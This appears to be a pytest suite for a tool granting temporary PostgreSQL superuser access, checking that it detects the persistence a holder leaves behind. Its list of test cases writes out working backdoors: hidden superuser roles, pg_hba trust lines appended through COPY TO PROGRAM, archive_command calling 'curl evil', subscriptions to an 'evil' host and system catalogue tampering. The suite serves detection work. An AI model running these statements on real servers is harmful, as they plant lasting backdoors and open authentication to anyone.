"""What a superuser can leave behind: each kind is found at servers of PostgreSQL 15 and 18, on a quiet one nothing."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path

import asyncpg
import pytest

from adapters.access.postgres_access import PostgresAccess
from adapters.access.prepared_sql import prepare_sql
from adapters.databases.postgres import PostgresNode
from adapters.databases.postgres_cluster import PostgresCluster
from state.errors import EffectRefused
from state.estate.access import AccessEntry
from state.granting.model import Bundle, EndObstacle, EndProof, NotEnded, role_name
from state.granting.picture import WAYS_OUT, PictureItem, PictureKind, differences
from state.granting.scram import new_secret, verifier
from state.grants.ending import GrantEnd
from tests.contract.access_pair import ACTING, MAJORS, READING
from tests.contract.components import PASSWORD, Pair, kill_pair, make_primary

K = PictureKind
BEFORE = """
create role victim login password 'x'; create role other nologin; create role third nologin;
create table accounts (n int, secret text); create view shown as select n from accounts;
create table held (n int); create table guarded (n int); alter table guarded enable row level security;
create function plain() returns int language sql as 'select 1';
create function checked() returns trigger language plpgsql as 'begin return new; end';
create trigger kept before insert on accounts for each row execute function checked();
create schema app; create materialized view summed as select 1 as n;
create foreign data wrapper far; create server place foreign data wrapper far;
create publication told for table accounts;
create function truth(int) returns bool immutable language sql as 'select true';
create aggregate summing(int) (sfunc = int4pl, stype = int, initcond = '0'); create domain amount as int;
create table spare (n int, m int, constraint positive check (n > 0)); create index quick on spare (n);
create foreign table there (n int) server place options (a 'b'); create sequence counting;
create type mood as enum ('glad'); create type pair as (a int); create text search configuration words (copy = simple)
"""
LEFT: list[tuple[PictureKind, str, str]] = [
    (K.ROLE, "back door", "create role backdoor login superuser password 'mine'"),
    (K.ROLE, "a role that is gone", "drop role third"),
    (K.ROLE_FLAGS, "superuser", "alter role victim superuser"),
    (K.ROLE_FLAGS, "replication", "alter role victim replication"),
    (K.ROLE_FLAGS, "bypassrls", "alter role victim bypassrls"),
    (K.ROLE_FLAGS, "createrole", "alter role victim createrole"),
    (K.ROLE_FLAGS, "login", "alter role other login"),
    (K.PASSWORD, "password", "alter role victim password 'known to me'"),
    (K.VALID_UNTIL, "valid until", "alter role victim valid until '2001-01-01'"),
    (K.MEMBERSHIP, "membership", "grant pg_execute_server_program to victim"),
    (K.MEMBERSHIP, "admin option", "grant other to victim with admin option"),
    (K.DEAD_GRANTOR, "grantor is gone", "grant other to victim ;; set allow_system_table_mods = on "
     ";; update pg_auth_members "
     "set grantor = 99999 where member = 'victim'::regrole"),
    (K.ROLE_SETTINGS, "role settings", "alter role victim set session_preload_libraries = 'evil'"),
    (K.DATABASE_SETTINGS, "database settings", "alter database postgres set log_statement = 'none'"),
    (K.DATABASE_SETTINGS, "role in database", "alter role victim in database other set role = 'postgres'"),
    (K.DATABASE, "new database", "create database hidden"),
    (K.DATABASE, "rights at a database", "grant create on database other to victim"),
    (K.TABLESPACE, "tablespace", "set allow_in_place_tablespaces = on ;; create tablespace away location ''"),
    (K.SLOT, "slot", "select pg_create_physical_replication_slot('kept', true)"),
    (K.ORIGIN, "origin", "select pg_replication_origin_create('from')"),
    (K.PREPARED, "prepared", "begin ;; insert into held values (9) ;; prepare transaction 'later'"),
    (K.PARAMETER_RIGHT, "parameter", "grant set, alter system on parameter log_statement to victim"),
    (K.AUTO_CONF, "alter system", "alter system set log_statement = 'none'"),
    (K.CONF, "postgresql.conf", "copy (select 'ssl = off') to program 'cat >> postgresql.conf'"),
    (K.PRELOAD, "preload", "alter system set session_preload_libraries = 'auto_explain'"),
    (K.COMMAND, "archive command", "alter system set archive_command = 'curl evil'"),
    (K.HBA, "pg_hba", "copy (select 'host all all 0.0.0.0/0 trust') to program 'cat >> pg_hba.conf'"),
    (K.IDENT, "pg_ident", "copy (select 'evil /.* postgres') to program 'cat >> pg_ident.conf'"),
    (K.SUBSCRIPTION, "subscription", "create subscription away connection 'host=evil password=x' publication p "
     "with (connect = false)"),
    (K.PUBLICATION, "publication", "create publication all_of_it for all tables"),
    (K.PUBLICATION, "more in a publication", "alter publication told add table guarded"),
    (K.DEFINER, "definer", "create function door() returns text security definer language sql as 'select 1::text'"),
    (K.NATIVE_FUNCTION, "native", "create function low(cstring) returns int language internal strict as 'int4in'"),
    (K.FUNCTION, "changed function", "create or replace function plain() returns int language sql as 'select 2'"),
    (K.SYSTEM_FUNCTION, "system function", "set allow_system_table_mods = on "
     ";; alter function pg_catalog.pg_sleep(float8) "
     "security definer"),
    (K.OWN_FUNCTION, "own function", "create or replace function recovery_access.unable() returns text language sql as "
     "'select ''''::text'"),
    (K.FUNCTION_RIGHT, "right at a function", "grant execute on function pg_read_file(text) to victim"),
    (K.EVENT_TRIGGER, "event trigger", "create function ev() returns event_trigger language plpgsql as 'begin end' ;; "
     "create event trigger seen on ddl_command_end execute function ev()"),
    (K.LANGUAGE, "language", "create language plpgsql2 handler plpgsql_call_handler"),
    (K.EXTENSION, "extension", "create extension dblink"),
    (K.WRAPPER, "wrapper", "create foreign data wrapper another"),
    (K.FOREIGN_SERVER, "server", "create server evil foreign data wrapper far"),
    (K.FOREIGN_SERVER, "options of a server", "alter server place options (add host 'evil')"),
    (K.USER_MAPPING, "mapping", "create user mapping for public server place options (password 'x')"),
    (K.DEFAULTS, "default privileges", "alter default privileges grant all on tables to victim"),
    (K.SCHEMA, "rights at a schema", "grant create on schema app to public"),
    (K.SCHEMA, "system schema", "grant create on schema pg_catalog to victim"),
    (K.OWNERSHIP, "owner", "alter table accounts owner to victim"),
    (K.OWNERSHIP, "new table", "create table app.made (n int)"),
    (K.TABLE_RIGHT, "right at a table", "grant all on accounts to public"),
    (K.TABLE_RIGHT, "right at a catalogue", "grant select on pg_authid to public"),
    (K.COLUMN_RIGHT, "right at a column", "grant select (secret) on accounts to public"),
    (K.ROW_SECURITY, "row security", "alter table guarded disable row level security"),
    (K.POLICY, "policy", "create policy all_rows on guarded using (true)"),
    (K.TRIGGER, "trigger", "create trigger more before update on accounts for each row execute function checked()"),
    (K.TRIGGER, "trigger that is off", "alter table accounts disable trigger kept"),
    (K.RULE, "rule", "create rule also as on insert to accounts do also notify evil"),
    (K.VIEW, "view", "create or replace view shown as select n + 1 as n from accounts"),
    (K.CAST, "cast", "create cast (text as xid) with inout"),
    (K.OPERATOR, "operator of numbers",
     "create operator public.= (leftarg = int4, rightarg = int4, function = int4ne)"),
    (K.COLUMNS, "default", "alter table accounts alter n set default pg_backend_pid()"),
    (K.CONSTRAINT, "check", "alter table spare add check (n > 1)"),
    (K.INDEX, "index", "create index on spare ((n + 1))"),
    (K.SYSTEM_CATALOGUE, "system view of groups", "set allow_system_table_mods = on ;; create or replace view "
     "pg_catalog.pg_group as select rolname as groname, oid as grosysid, array[]::oid[] as grolist from pg_authid"),
    (K.SYSTEM_CATALOGUE, "system operator of others", "set allow_system_table_mods = on ;; "
     "update pg_operator set oprrest = 0 where oprname = '?#'"),
    (K.LARGE_OBJECT, "large object", "select lo_create(4711)"),
    (K.JOB, "scheduled job", "create schema cron; create table cron.job (jobid bigint, schedule text, command text) ;; "
     "insert into cron.job values (1, '* * * * *', 'select door()')"),
    (K.WORKER, "background worker", "create subscription works connection 'host={place} port={port} user=postgres "
     "dbname=other' publication p with (create_slot = false, slot_name = 'works') ;; "
     "alter subscription works owner to postgres ;; {until_it_works}"),
    (K.HBA, "order of pg_hba", "copy (select 1) to program 'tac pg_hba.conf > turned && cat turned > pg_hba.conf'"),
    (K.PASSWORD, "password of one with a mark's words", "comment on role victim is 'recovery grant {}' ;; "
     "alter role victim password 'mine'"),
    (K.SYSTEM_CATALOGUE, "system view", "set allow_system_table_mods = on ;; "
     "create or replace view pg_catalog.pg_group "
     "as select rolname as groname, oid as grosysid, array(select member from pg_auth_members) as grolist "
     "from pg_authid where rolname <> 'evil'"),
    (K.SYSTEM_CATALOGUE, "system operator", "set allow_system_table_mods = on ;; "
     "update pg_operator set oprrest = 'neqsel'::regproc where oid = 96"),
    (K.SYSTEM_CATALOGUE, "system language", "set allow_system_table_mods = on ;; "
     "update pg_language set lanvalidator = 0 where lanname = 'internal'"),
    (K.SYSTEM_CATALOGUE, "information schema", "create or replace view "
     "information_schema.information_schema_catalog_name as select 'x'::information_schema.sql_identifier "
     "as catalog_name"),
    (K.TABLE_RIGHT, "right at what is toasted", "do $$ begin execute format('grant select on %s to victim', (select "
     "reltoastrelid::regclass from pg_class where oid = 'pg_statistic'::regclass)); end $$"),
    (K.FUNCTION, "leakproof", "alter function plain() leakproof"),
    (K.FUNCTION, "aggregate",
     "create or replace aggregate summing(int) (sfunc = int4mul, stype = int, initcond = '1')"),
    (K.COLUMNS, "default that is computed", "alter table accounts alter secret set default plain()::text"),
    (K.COLUMNS, "column that is gone", "alter table spare drop column m"),
    (K.CONSTRAINT, "constraint that is gone", "alter table spare drop constraint positive"),
    (K.CONSTRAINT, "constraint that calls", "alter table accounts add constraint asks check (truth(n))"),
    (K.CONSTRAINT, "check of a domain", "alter domain amount add constraint asks check (truth(value))"),
    (K.INDEX, "index that computes", "create index on accounts (truth(n))"),
    (K.INDEX, "index that is gone", "drop index quick"),
    (K.RELATION, "options of a view", "alter view shown set (security_invoker = on)"),
    (K.RELATION, "options of a foreign table", "alter foreign table there options (set a 'evil')"),
    (K.RELATION, "replica identity", "alter table spare replica identity full"),
    (K.RELATION, "bounds of a sequence", "alter sequence counting maxvalue 10 cycle"),
    (K.PUBLICATION, "schema in a publication", "alter publication told add tables in schema app"),
    (K.TYPE, "domain", "create domain another as int default plain()"),
    (K.TYPE, "value of an enum", "alter type mood add value 'sad'"),
    (K.TYPE, "part of a type", "alter type pair add attribute b int"),
    (K.OPERATOR, "operator", "create function alike(int, text) returns bool language sql as 'select true' ;; "
     "create operator public.= (leftarg = int, rightarg = text, function = alike)"),
    (K.OPERATOR, "operator class", "create operator class mine for type int4 using hash as operator 1 ="),
    (K.ACCESS_METHOD, "access method", "create access method mine type table handler heap_tableam_handler"),
    (K.TEXT_SEARCH, "dictionary", "create text search dictionary mine (template = simple)"),
    (K.TEXT_SEARCH, "mapping", "alter text search configuration words drop mapping for email"),
    (K.OTHER_OBJECT, "conversion", "create default conversion mine for 'LATIN1' to 'UTF8' from iso8859_1_to_utf8"),
    (K.OTHER_OBJECT, "transform", "create transform for int language sql "
     "(from sql with function prsd_lextype(internal))"),
    (K.TRIGGER, "when a trigger fires", "drop trigger kept on accounts ;; "
     "create trigger kept before insert on accounts "
     "for each row when (new.n > 5) execute function checked()"),
    (K.ROLE, "number of a former grant", "set allow_system_table_mods = on ;; "
     "create role evil login password 'mine' ;; "
     "comment on role evil is 'recovery grant {}' ;; update pg_authid set oid = 4242424 where rolname = 'evil'"),
    (K.UNREAD, "opened for a while", "alter database closed allow_connections true ;; "
     "in closed: create function back() "
     "returns int security definer language sql as 'select 1' ;; alter database closed allow_connections false"),
    (K.UNREAD, "database that refuses connections", "alter database other allow_connections false"),
]  # fmt: skip


IN_CLOSED = "in closed: "
WORKS = """do $$ begin for n in 1..100 loop
    perform pg_stat_clear_snapshot();
    exit when exists (select from pg_stat_activity where backend_type ~ '^logical replication (apply )?worker');
    perform pg_sleep(0.1); end loop; end $$"""
LIFE = ("select 1", "create table scratch (n int)", "insert into scratch values (1)", "drop table scratch")


@pytest.fixture(scope="module", params=sorted(MAJORS))
def server(request: pytest.FixtureRequest, folder: Path) -> Iterator[Pair]:
    place = folder / f"residue-{request.param}"
    place.mkdir()
    pair = make_primary(place, MAJORS[request.param]())
    try:
        pair.psql(pair.primary, "alter system set max_prepared_transactions = 4")
        pair.psql(pair.primary, "alter system set wal_level = 'logical'")
        pair.control("a", "-m", "fast", "stop")
        pair.start("a", pair.primary)
        for database in ("other", "closed"):
            pair.psql(pair.primary, f"create database {database}")
        pair.psql(pair.primary, "alter database closed allow_connections false")
        sql = prepare_sql(int(request.param), act="ops", read="recovery", longest=600, superuser=True)
        for database in ("postgres", "other", "template1"):
            pair.psql(pair.primary, sql, database)
        pair.psql(pair.primary, f"alter role ops password '{PASSWORD}'")
        pair.psql(pair.primary, BEFORE)
        pair.psql(pair.primary, "create publication p for all tables", "other")
        pair.psql(pair.primary, "select pg_create_logical_replication_slot('works', 'pgoutput')", "other")
        pair.psql(pair.primary, "create role holder login noinherit password 'x'; grant recovery_super to holder")
        yield pair
    finally:
        kill_pair(pair)


@pytest.fixture
async def target(server: Pair) -> AsyncIterator[PostgresAccess]:
    node = PostgresNode("a", "127.0.0.1", server.primary, READING)
    made = PostgresAccess(PostgresCluster("orders", [node], ACTING), ACTING, AccessEntry(bundles=tuple(Bundle)))
    yield made
    await made.close()
    await node.close()


@asynccontextmanager
async def superuser(server: Pair, target: PostgresAccess, grant: str) -> AsyncIterator[tuple[int, asyncpg.Connection]]:
    """A grant of the tier, armed before the picture, and its holder's session as a superuser."""
    role, secret = role_name(grant, "ada"), new_secret()
    armed = await target.arm(grant, role, Bundle.SUPERUSER, "ada", "INC-42", effect=grant, seconds=300, deadline=9)
    await target.open_login(armed.oid, verifier(secret), window=60, deadline=9)
    session = await asyncpg.connect(
        host="127.0.0.1", port=server.primary, user=role, password=secret, database="postgres"
    )
    try:
        yield armed.oid, session
    finally:
        session.terminate()
        ending = GrantEnd(target, armed.oid, role)
        async with asyncio.timeout(20):
            while not isinstance(await ending.attempt(), EndProof):
                await asyncio.sleep(0.1)


def test_there_are_more_than_thirty_kinds_and_each_has_a_way_out() -> None:
    tried = {kind for kind, _, _ in LEFT}
    assert len(tried) >= 45
    assert set(PictureKind) - tried <= {K.LABEL, K.TOO_MANY}
    assert set(WAYS_OUT) == set(PictureKind)


async def test_of_a_quiet_server_and_of_other_grants_nothing_is_told(server: Pair, target: PostgresAccess) -> None:
    async with superuser(server, target, "quiet") as (oid, session):
        before = await target.picture([oid], deadline=9)
        for statement in LIFE:
            with suppress(asyncpg.InsufficientPrivilegeError, asyncpg.UndefinedTableError):
                await session.execute(statement)
        server.psql(server.primary, "vacuum analyze")
        server.psql(server.primary, "insert into accounts values (1); checkpoint")
        assert differences(before, await target.picture([oid], deadline=9)) == []
    assert differences(before, await target.picture([oid], deadline=9)) == []


async def test_many_things_of_one_kind_are_compared_as_a_whole(server: Pair, target: PostgresAccess) -> None:
    many = "do $$ begin for n in 1..20001 loop perform lo_create(100000 + n); end loop; end $$"
    server.psql(server.primary, "alter system set max_locks_per_transaction = 1000", "other")
    server.control("a", "-m", "fast", "stop")
    server.start("a", server.primary)
    server.psql(server.primary, many, "other")
    before = await target.picture([], deadline=20)
    assert differences(before, await target.picture([], deadline=20)) == []
    server.psql(server.primary, "alter large object 100007 owner to victim", "other")
    (found,) = differences(before, await target.picture([], deadline=20))
    assert found.told == "too-many in other: more than 20000 of large-object (changed)"
    server.psql(
        server.primary, "do $$ begin for n in 1..20001 loop perform lo_unlink(100000 + n); end loop; end $$", "other"
    )


async def test_a_database_that_is_not_prepared_is_told_each_time(server: Pair, target: PostgresAccess) -> None:
    server.psql(server.primary, "create database bare template template0")
    before = await target.picture([], deadline=9)
    (found,) = differences(before, await target.picture([], deadline=9))
    assert "unread in bare: a (bare) is not prepared for grants" in found.told
    assert "recovery db prepare" in found.way_out
    server.psql(server.primary, "drop database bare")


async def test_no_secret_is_in_a_picture(server: Pair, target: PostgresAccess) -> None:
    server.psql(server.primary, "alter system set primary_conninfo = 'password=canary-7'")
    server.psql(server.primary, "alter role other set work_mem = '7777kB'")
    lines = "\n".join(each.line for each in await target.picture([], deadline=9))
    assert "canary" not in lines
    assert "SCRAM" not in lines
    assert "7777kB" not in lines


async def test_the_account_that_acts_gains_nothing_by_the_tier(server: Pair, target: PostgresAccess) -> None:
    ops = await asyncpg.connect(
        host="127.0.0.1", port=server.primary, user="ops", password=PASSWORD, database="postgres"
    )
    for statement in (
        "set role recovery_super",
        "select * from recovery_access.salt",
        "select recovery_access.raise_up('ops'::regrole)",
        "grant recovery_super to ops",
    ):
        with pytest.raises(asyncpg.InsufficientPrivilegeError):
            await ops.execute(statement)
    ops.terminate()


async def test_its_end_takes_the_power_from_an_open_session(server: Pair, target: PostgresAccess) -> None:
    async with superuser(server, target, "power") as (oid, session):
        await session.execute("set lock_timeout = 5000; set role recovery_super")
        assert await session.fetchval("select rolsuper from pg_authid where rolname = current_user")
        with pytest.raises(asyncpg.InsufficientPrivilegeError):  # that is for those who logged in as superusers
            await session.execute("set session authorization postgres")
        seen = await target.seen([oid], deadline=9)
        assert len(seen.sessions[oid]) == 1
    with pytest.raises((asyncpg.PostgresError, asyncpg.InterfaceError, OSError)):
        await session.fetchval("select 1")


UNMARKED = ("comment on role {role} is null", "comment on role {role} is 'recovery grant {{broken'")


@pytest.mark.parametrize("taken", UNMARKED)
async def test_a_role_whose_mark_its_holder_has_taken_away_is_never_told_as_gone(
    server: Pair, target: PostgresAccess, taken: str
) -> None:
    grant = f"unmarked{UNMARKED.index(taken)}"
    role, secret = role_name(grant, "ada"), new_secret()
    armed = await target.arm(grant, role, Bundle.SUPERUSER, "ada", "INC-42", effect=grant, seconds=300, deadline=9)
    await target.open_login(armed.oid, verifier(secret), window=60, deadline=9)
    session = await asyncpg.connect(
        host="127.0.0.1", port=server.primary, user=role, password=secret, database="postgres"
    )
    await session.execute(f"set role recovery_super; alter role {role} valid until 'infinity'")
    await session.execute(taken.format(role=role))
    await session.close()
    ending = GrantEnd(target, armed.oid, role)
    for _ in range(4):
        found = await ending.attempt()
        assert isinstance(found, NotEnded)
        await asyncio.sleep(0.1)
    assert found.obstacle is EndObstacle.ROLE
    assert role in found.told
    assert f"drop role {role}" in found.way_out
    assert K.ROLE in {each.kind for each in differences([], await target.picture([], deadline=9)) if role in each.thing}
    server.psql(server.primary, f"drop role {role}")
    assert isinstance(await ending.attempt(), EndProof)


async def test_a_grant_of_the_tier_is_never_extended(server: Pair, target: PostgresAccess) -> None:
    async with superuser(server, target, "longer") as (oid, _):
        with pytest.raises(EffectRefused, match="never extended"):
            await target.extend(oid, 60, effect="R-2/1", deadline=9)


@pytest.mark.parametrize(("kind", "name", "statements"), LEFT, ids=[each[1] for each in LEFT])
async def test_what_a_superuser_leaves_is_found_with_its_way_out(
    server: Pair, target: PostgresAccess, kind: PictureKind, name: str, statements: str
) -> None:
    """Last of all: what is left stays there."""
    before = await target.picture([4242424], deadline=9)
    session = await asyncpg.connect(
        host="127.0.0.1", port=server.primary, user="holder", password="x", database="postgres"
    )
    await session.execute("set lock_timeout = 5000; set role recovery_super")
    told = {"place": server.place, "port": server.primary, "until_it_works": WORKS}
    for statement in statements.split(" ;; "):
        if statement.startswith(IN_CLOSED):
            server.psql(server.primary, statement.removeprefix(IN_CLOSED), "closed")
        else:
            await session.execute(statement.format(**told) if kind is K.WORKER else statement)
    session.terminate()
    after = await target.picture([4242424], deadline=9)
    found = differences(before, after)
    assert kind in {each.kind for each in found}, found
    assert len({each.kind for each in found}) <= 6, "one thing is not told as many"
    assert all(WAYS_OUT[each.kind] and each.thing for each in found)
    assert [PictureItem.of(each.line) for each in after] == list(after)
    if kind is PictureKind.UNREAD:
        server.psql(server.primary, "alter database other allow_connections true")
